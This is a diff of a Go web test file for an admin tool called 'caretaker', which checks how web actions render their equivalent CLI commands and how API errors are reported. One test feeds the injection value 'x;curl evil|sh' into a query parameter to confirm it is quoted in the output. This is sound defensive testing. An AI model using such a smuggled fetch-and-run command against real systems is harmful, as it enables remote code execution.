@@ -3,6 +3,7 @@ package web
 import (
 	"fmt"
 	"io"
+	"maps"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
@@ -197,8 +198,8 @@ func TestAct_WithoutTheRoleOrTheSettingShowsTheCommand(t *testing.T) {
 		_, body := f.request(http.MethodGet, "/act/unprotect?kind=user&id=7", as(role))
 		assert.Contains(t, body, want, "caretaker unprotect user 7")
 	}
-	_, body := f.request(http.MethodGet, "/act/run?worker=x%3Bcurl+evil%7Csh", as("viewer"))
-	assert.Contains(t, body, "caretaker run &#39;x;curl evil|sh&#39;")
+	_, body := f.request(http.MethodGet, "/act/run?worker="+tokens+"&database=x%3Bcurl+evil%7Csh", as("viewer"))
+	assert.Contains(t, body, "caretaker run "+tokens+" --database &#39;x;curl evil|sh&#39;")
 	off := startActing(t, func(c *Config) { c.Actions = false })
 	_, body = off.request(http.MethodGet, "/act/pause?worker=*", as("admin"))
 	assert.Contains(t, body, "Pause all workers", "web_actions: true", "caretaker pause --all --reason REASON")
@@ -214,9 +215,11 @@ func TestAct_ErrorsOfTheAPISayWhatToDo(t *testing.T) {
 		"/act/protect?kind=user&id=999999": "404 user", "/act/pause?worker=nobody": "404 Unknown worker", "/act/ack-outside?ids=99": "404 path",
 		"/act/accept-absent?children=nothing": "404 No definition",
 	} {
-		form := f.form(path, as("admin"))
+		action, query, _ := strings.Cut(path, "?")
+		form := assert.Must(url.ParseQuery(query))(t)
+		maps.Copy(form, f.form(path, as("admin")))
 		form.Set("reason", "r")
-		answer, body := f.post(strings.Split(path, "?")[0], form, as("admin"))
+		answer, body := f.post(action, form, as("admin"))
 		code, text, _ := strings.Cut(want, " ")
 		assert.That(t, fmt.Sprint(answer.StatusCode) == code && strings.Contains(body, text), "%s: %s, want %s in\n%s", path, answer.Status, want, body)
 	}
